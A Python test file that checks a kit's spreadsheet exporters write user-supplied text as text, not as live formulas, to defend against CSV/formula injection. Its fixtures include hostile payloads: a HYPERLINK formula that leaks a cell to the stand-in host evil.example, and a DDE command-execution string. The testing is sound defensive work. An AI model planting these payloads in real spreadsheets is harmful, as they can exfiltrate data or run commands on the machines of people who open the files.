"""F3: does every workbook the kit exports write a person's text as text, never as a live formula
(OWASP "CSV injection": text starting with =, +, -, @, a tab or a carriage return)?

Each exporter is run on hostile text and every worksheet of its output is scanned: no cell holds a
formula (``<f>`` in the sheet's XML, data type "f" in openpyxl) and the hostile text is there as
text (drop-down lists and conditional formats are not cells: their formulas are the kit's own).
A second test reads the source of the whole kit: a cell is written only through
:mod:`kit.core.xlsx`, so an exporter added later cannot write one another way."""

from __future__ import annotations

import ast
import csv
import io
import json
import re
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import pytest
from openpyxl import load_workbook

import kit
from kit.core.xlsx import FORMULA_STARTS, append, csv_text, put

ROOT = Path(__file__).resolve().parents[1]
LEAK = '=HYPERLINK("http://evil.example/?leak="&B2,"Xem điểm")'
HOSTILE = (
    LEAK,
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "#N/A",
)
_FORMULA = re.compile(rb"<(?:[\w.-]+:)?f[\s>/]")


def formulas(data: bytes) -> list[str]:
    """Where the workbook ``data`` holds a formula cell: ``sheet!cell`` (its XML and openpyxl's
    reading of it must agree that there is none)."""
    found: list[str] = []
    archive = zipfile.ZipFile(io.BytesIO(data))
    for name in archive.namelist():
        if name.startswith("xl/worksheets/") and _FORMULA.search(archive.read(name)):
            found.append(name)
    book = load_workbook(io.BytesIO(data))
    for ws in book.worksheets:
        cells = (c for row in ws.iter_rows() for c in row)
        found += [f"{ws.title}!{c.coordinate}" for c in cells if c.data_type == "f"]
    return found


def texts(data: bytes) -> set[str]:
    book = load_workbook(io.BytesIO(data))
    return {str(c.value) for ws in book.worksheets for row in ws.iter_rows() for c in row}


def numbers(data: bytes) -> int:
    book = load_workbook(io.BytesIO(data))
    return sum(
        1
        for ws in book.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "n" and c.value is not None
    )


def check(data: bytes, expected: set[str], numeric: bool = True) -> None:
    assert formulas(data) == []
    shown = texts(data)
    assert {t.replace("\r", "") for t in expected} <= {s.replace("\r", "") for s in shown}
    if numeric:
        assert numbers(data) > 0  # numbers stay numbers


# ---------------------------------------------------------------------- each exporter


def test_the_eligibility_result_writes_every_hostile_cell_and_header_as_text() -> None:
    from kit.eligibility.batch import contract, decide, workbook

    headers = [*contract.INPUT_HEADERS, LEAK]  # a column of the user's own, named as a formula
    rows = [headers]
    for i, text in enumerate(HOSTILE):
        row: list[object] = [text, text, "Nghị quyết HĐND tỉnh", text, "10/05/2024", ""]
        row += ["", text if i % 2 else "Không", "Có", "Có", "Toàn tỉnh", text]
        rows.append(row)
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    result = decide.run_batch(out.getvalue().encode(), f"{LEAK}.csv")
    check(workbook.write_result(result), {*HOSTILE, LEAK})


def test_the_eligibility_template_holds_no_formula_cell() -> None:
    from kit.eligibility.batch import workbook

    assert formulas(workbook.write_template()) == []


def hostile_unit(text: str) -> dict[str, object]:
    from kit.assessment.questionnaire.answers import check_answers
    from kit.assessment.questionnaire.saved import read_saved
    from kit.assessment.questionnaire.schema import load_questionnaire

    saved = json.loads((ROOT / "tests/fixtures/assessment/strong-unit.json").read_text("utf-8"))
    unit = check_answers(read_saved(saved).raw).answers
    for key, f in load_questionnaire().fields().items():
        if f.type == "text" and (key in unit or key in ("unit_name", "province")):
            unit[key] = text[: f.max_length]
    return unit


def test_the_assessment_template_writes_a_units_text_as_text() -> None:
    from kit.assessment.collection.template import write_template

    data = write_template([hostile_unit(t) for t in HOSTILE])
    check(data, set(HOSTILE))


def test_the_rollup_writes_unit_names_evidence_and_file_names_as_text() -> None:
    from kit.assessment.questionnaire.saved import to_saved
    from kit.assessment.rollup.aggregate import roll_up
    from kit.assessment.rollup.sources import read_files
    from kit.assessment.rollup.workbook import rollup_xlsx

    names = [f"{text} ({i})" for i, text in enumerate(HOSTILE)]  # one unit each
    files = [
        (f"{name}.json", json.dumps(to_saved(hostile_unit(name)), ensure_ascii=False).encode())
        for name in names
    ]
    found = read_files(files)
    assert len(found.units) == len(HOSTILE), [r.vi for r in found.rejected]
    data = rollup_xlsx(roll_up(found.units))
    check(data, {names[0], f"{names[0]}.json"})


@dataclass
class _Member:
    name: str
    unit: str
    phases: dict[str, tuple[int, int, float, float]] = field(
        default_factory=lambda: {"": (1, 2, 1.0, 2.0), "pre": (1, 1, 1.0, 2.0)}
    )
    survey_done: bool = True
    pending_grading: int = 0

    def percent(self, phase: str) -> float | None:
        answered, _, score, top = self.phases.get(phase, (0, 0, 0.0, 0.0))
        return round(100 * score / top, 1) if answered and top else None


def test_the_workshop_export_writes_trainee_names_and_comments_as_text() -> None:
    from kit.workshops.export import write_xlsx

    gain = SimpleNamespace(pre=10.0, post=50.0, gain=0.4, band=None)
    stats = SimpleNamespace(
        items=[
            SimpleNamespace(item=t, n=2, facility=50.0, discrimination=None, flag="ok")
            for t in HOSTILE
        ],
        gain=SimpleNamespace(trainees={t: gain for t in HOSTILE}),
    )
    question = SimpleNamespace(text=LEAK, n=2, mean=4.5, counts=(0, 0, 0, 1, 1))
    board = SimpleNamespace(
        roster=[_Member(t, t) for t in HOSTILE],
        stats=stats,
        survey=SimpleNamespace(questions=[question], comments=list(HOSTILE), responses=2),
    )
    check(write_xlsx(cast(Any, board)), {*HOSTILE, f"Ý kiến: {LEAK}"})


# ---------------------------------------------------------------------- the one writer


@pytest.mark.parametrize("text", HOSTILE)
def test_put_and_append_write_text_as_text_and_numbers_as_numbers(text: str) -> None:
    from openpyxl import Workbook

    book = Workbook()
    ws = book.active
    assert ws is not None
    put(ws, 1, 1, text)
    put(ws, 1, 2, -5)
    append(ws, [text, 2.5, None, "\x00\x07bình thường"])
    out = io.BytesIO()
    book.save(out)
    data = out.getvalue()
    assert formulas(data) == []
    again = load_workbook(io.BytesIO(data)).active
    assert again is not None
    assert isinstance(again["A1"].value, str) and again["B1"].value == -5
    if "\r" not in text:  # XML may turn a carriage return into a line feed
        assert again["A1"].value == text
    assert again["A2"].value == again["A1"].value and again["B2"].value == 2.5
    assert again["D2"].value == "bình thường"


def test_csv_text_defuses_a_formula_but_leaves_a_number() -> None:
    assert all(csv_text(t).startswith("'") for t in HOSTILE if t.startswith(FORMULA_STARTS))
    assert csv_text("-5") == "-5" and csv_text("+3,5") == "+3,5" and csv_text(7) == "7"
    assert csv_text("Xã An") == "Xã An" and csv_text(None) == ""


#: names a worksheet goes by in the kit's writers
_SHEET_NAMES = re.compile(r"^(ws|sheet|worksheet|guide|lists|book_sheet)$|_ws$|_sheet$")


def _writes_a_cell(node: ast.AST) -> str | None:
    """What a statement does that writes a cell other than through kit.core.xlsx, if anything."""
    if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
        receiver = node.func.value
        name = receiver.id if isinstance(receiver, ast.Name) else ""
        if node.func.attr == "cell" and (
            len(node.args) >= 3 or any(k.arg == "value" for k in node.keywords)
        ):
            return "ws.cell(…, value)"
        if node.func.attr == "append" and _SHEET_NAMES.search(name):
            return f"{name}.append(…)"
        if node.func.attr == "writer" and name == "csv":
            return "csv.writer"
    if isinstance(node, ast.Assign):
        for target in node.targets:
            for t in target.elts if isinstance(target, ast.Tuple) else [target]:
                if not (isinstance(t, ast.Subscript) and isinstance(t.value, ast.Name)):
                    continue
                if _SHEET_NAMES.search(t.value.id):
                    return f'{t.value.id}["…"] = …'
    return None


def test_every_cell_the_kit_writes_goes_through_kit_core_xlsx() -> None:
    package = Path(kit.__file__).parent
    found: list[str] = []
    for path in sorted(package.rglob("*.py")):
        if path.name == "xlsx.py" and path.parent.name == "core":
            continue
        source = path.read_text("utf-8")
        if "openpyxl" not in source and "csv.writer" not in source:
            continue
        for node in ast.walk(ast.parse(source)):
            what = _writes_a_cell(node)
            if what == "csv.writer" and "csv_text" in source:
                continue  # a CSV writer whose cells go through kit.core.xlsx.csv_text
            if what is not None:
                line = getattr(node, "lineno", 0)
                found.append(f"{path.relative_to(package.parent)}:{line}: {what}")
    assert found == [], "write cells with kit.core.xlsx.put/append (csv_text for CSV)"
